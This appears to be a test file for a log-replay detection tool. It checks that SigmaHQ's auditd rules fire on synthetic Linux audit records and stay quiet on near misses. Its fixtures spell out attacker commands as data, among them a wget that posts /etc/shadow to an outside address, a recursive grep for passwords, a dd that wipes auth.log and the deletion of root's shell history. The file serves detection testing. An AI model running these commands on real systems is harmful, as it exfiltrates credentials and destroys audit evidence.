// Every rule of SigmaHQ for auditd, against a record of the kind that it was written for, in the form that Linux writes it: through the
// command itself, from a log file to the alert.

import { afterAll, beforeAll, expect, test } from "bun:test";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import { Glob } from "bun";
import { sharedData } from "../data.ts";
import { auditEvent, type Body, execve, path, syscall, userMessage } from "../fixtures/audit-writer.ts";
import { describeWhere, needsData } from "../needs.ts";

/** What somebody does, by the file of the rule that is to see it. */
const deeds: Readonly<Record<string, Body>> = {
  lnx_auditd_exploit_cve_2026_31431_af_alg_socket_creation: syscall("socket", { a0: "26" }),
  lnx_auditd_audio_capture: syscall("memfd_create", { exe: "/usr/bin/ecasound" }),
  lnx_auditd_split_file_into_pieces: syscall("openat", { exe: "/usr/bin/split" }),
  lnx_auditd_network_service_scanning: syscall("socket", { exe: "/usr/bin/nmap", key: "network_connect_4" }),
  lnx_auditd_susp_special_file_creation_via_mknod_syscall: syscall("mknod"),
  lnx_auditd_web_rce: syscall("execve", { euid: 33 }),
  lnx_auditd_susp_discovery_sysinfo_syscall: syscall("sysinfo"),
  lnx_auditd_create_account: userMessage("ADD_USER", 'op=add-user id=1001 exe="/usr/sbin/adduser" res=success'),
  lnx_auditd_clean_disable_dmesg_logs_via_syslog: syscall("syslog", { a0: "5" }),
  lnx_auditd_susp_exe_folders: syscall("execve", { exe: "/home/alice/public_html/shell" }),
  lnx_auditd_load_module_insmod: syscall("openat", { exe: "/usr/bin/kmod", comm: "insmod" }),
  lnx_auditd_susp_c2_commands: syscall("execve", { exe: "/usr/bin/wget", key: "susp_activity" }),
  lnx_auditd_system_info_discovery: execve("grep", "virtio", "/proc/cpuinfo"),
  lnx_auditd_keylogging_with_pam_d: ["TTY", 'tty pid=2 uid=0 auid=0 ses=1 major=136 minor=0 comm="bash" data=6C730D'],
  lnx_auditd_disable_aslr_protection: syscall("personality", { a0: "40000" }),
  lnx_auditd_data_compressed: execve("tar", "-cvzf", "home.tgz", "/home"),
  lnx_auditd_clipboard_image_collection: execve("xclip", "-sel", "clip", "-t", "image/png", "-o"),
  lnx_auditd_masquerading_crond: execve("cp", "/bin/sh", "/tmp/crond"),
  lnx_auditd_screencaputre_xwd: execve("xwd", "-root", "-out", "screen.xwd"),
  lnx_auditd_dd_delete_file: execve("dd", "if=/dev/zero", "of=/var/log/auth.log"),
  lnx_auditd_steghide_embed_steganography: execve("steghide", "embed", "-cf", "a.jpg", "-ef", "secret"),
  lnx_auditd_hidden_files_directories: execve("mkdir", "/tmp/.hidden"),
  lnx_auditd_chattr_immutable_removal: execve("chattr", "-i", "/etc/shadow"),
  lnx_auditd_unzip_hidden_zip_files_steganography: execve("unzip", "cat.jpg"),
  lnx_auditd_capabilities_discovery: execve("getcap", "-r", "/"),
  lnx_auditd_change_file_time_attr: execve("touch", "-t", "7901010000", "/tmp/x"),
  lnx_auditd_steghide_extract_steganography: execve("steghide", "extract", "-sf", "cat.jpg"),
  lnx_auditd_network_sniffing: execve("tcpdump", "-c", "5", "-i", "eth0"),
  lnx_auditd_susp_cmds: execve("chmod", "777", "/tmp/x"),
  lnx_auditd_modify_system_firewall: execve("nft", "delete rule inet filter input"),
  lnx_auditd_bpfdoor_port_redirect: execve("/sbin/iptables", "-t", "nat", "-A", "PREROUTING", "--to-ports", "42391"),
  lnx_auditd_coinminer: execve("xmrig", "--donate-level=0", "--cpu-priority=5"),
  lnx_auditd_find_cred_in_files: execve("grep", "-ri", "password", "/etc/"),
  lnx_auditd_screencapture_import: execve("import", "-window", "root", "shot of it.png"),
  lnx_auditd_susp_service_reload_or_restart: execve("systemctl", "daemon-reload"),
  lnx_auditd_user_discovery: execve("whoami"),
  lnx_auditd_system_shutdown_reboot: execve("telinit", "6"),
  lnx_auditd_file_or_folder_permissions: execve("chown", "root", "x"),
  lnx_auditd_clipboard_collection: execve("xclip", "-selection", "clipboard", "-o"),
  lnx_auditd_hidden_zip_files_steganography: execve("cat", "cat.jpg", "secret.zip"),
  lnx_auditd_susp_histfile_operations: execve("rm", "-f", "/root/.bash_history"),
  lnx_auditd_data_exfil_wget: execve("wget", "--post-file=/etc/shadow", "http://203.0.113.5/"),
  lnx_auditd_binary_padding: execve("truncate", "-s", "+10M", "tool"),
  lnx_auditd_password_policy_discovery: execve("chage", "-l", "root"),
  lnx_auditd_ld_so_preload_mod: path("/etc/ld.so.preload"),
  lnx_auditd_magic_system_request_key: path("/proc/sysrq-trigger"),
  lnx_auditd_auditing_config_change: path("/etc/audit/rules.d/own rules.rules"),
  lnx_auditd_logging_config_change: path("/etc/rsyslog.conf"),
  lnx_auditd_bpfdoor_file_accessed: path("/var/run/haldrund.pid"),
  lnx_auditd_system_info_discovery2: path("/etc/os-release"),
  lnx_auditd_unix_shell_configuration_modification: path("/home/alice/.bashrc"),
  lnx_auditd_systemd_service_creation: path("/etc/systemd/system/back door.service", "CREATE"),
  lnx_auditd_hidden_binary_execution: path("/tmp/.x/miner"),
  lnx_auditd_disable_system_firewall: userMessage(
    "SERVICE_STOP",
    'unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success',
  ),
};

/** The same deeds, done in a way that the rule of the file is not about. */
const nearMisses: Readonly<Record<string, Body>> = {
  lnx_auditd_exploit_cve_2026_31431_af_alg_socket_creation: syscall("socket", { a0: "2" }),
  lnx_auditd_audio_capture: syscall("execve", { exe: "/usr/bin/ecasound" }),
  lnx_auditd_web_rce: syscall("openat", { euid: 33 }),
  lnx_auditd_keylogging_with_pam_d: path("/etc/pam.d/login"),
  lnx_auditd_bpfdoor_port_redirect: execve("/sbin/iptables", "-t", "nat", "--to-ports", "8042"),
  lnx_auditd_systemd_service_creation: path("/etc/systemd/system/back door.service", "DELETE"),
  lnx_auditd_susp_cmds: execve("chmod", "755", "777"),
};

describeWhere("SigmaHQ's rules for auditd", [needsData("sigma")], () => {
  const root = sharedData("sigma") ?? "";
  const names = new Map<string, string>();
  let folder = "";

  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), "sigil-auditd-"));
    for (const file of new Glob("**/*.yml").scanSync(root)) {
      const text = readFileSync(join(root, file), "utf8");
      if (/^ +service: auditd$/m.test(text)) names.set(basename(file, ".yml"), /^id: (\S+)/m.exec(text)?.[1] ?? "");
    }
  });
  afterAll(() => rmSync(folder, { recursive: true, force: true }));

  /** Rules that fired, by the lines that they fired on. */
  function fired(of: Readonly<Record<string, Body>>, finish: (lines: string[]) => string[]): Map<number, Set<string>> {
    const file = join(folder, "audit.log");
    const lines = Object.values(of).flatMap((body, index) => auditEvent(1000 + index, [body]));
    writeFileSync(file, `${finish(lines).join("\n")}\n`);
    const { stdout, stderr, exitCode } = Bun.spawnSync(
      [process.execPath, join(import.meta.dir, "../../src/main.ts"), "replay", "--rules", root, file],
      { env: { HOME: folder } },
    );
    expect([exitCode, /malformed|damaged/.test(stderr.toString())]).toEqual([0, false]);
    const found = new Map<number, Set<string>>();
    for (const line of stdout
      .toString()
      .split("\n")
      .filter((each) => each !== "")) {
      const alert = JSON.parse(line) as { event: { sequence: number }; rule: { id: string } };
      const ids = found.get(alert.event.sequence) ?? new Set();
      found.set(alert.event.sequence, ids.add(alert.rule.id));
    }
    return found;
  }

  const firing = (of: Readonly<Record<string, Body>>, finish = (lines: string[]): string[] => lines): string[] => {
    const found = fired(of, finish);
    return Object.keys(of).filter((name, index) => found.get(index)?.has(names.get(name) ?? "?") === true);
  };

  test("have a deed each", () => {
    expect(Object.keys(deeds).toSorted()).toEqual([...names.keys()].toSorted());
  });

  test("fire on records as Linux writes them", () => {
    expect(firing(deeds)).toEqual(Object.keys(deeds));
  }, 60_000);

  test("fire on records that auditd enriched, with the host's name and with types as numbers", () => {
    const enriched = (line: string): string =>
      `node=web1 ${line.replace("type=SYSCALL ", "type=UNKNOWN[1300] ").replace("type=PATH ", "type=1302 ")}\x1dUID="root" AUID="alice"`;
    expect(firing(deeds, (lines) => lines.map(enriched))).toEqual(Object.keys(deeds));
  }, 60_000);

  test("are silent when the record says something else", () => {
    expect(firing(nearMisses)).toEqual([]);
  }, 60_000);
});
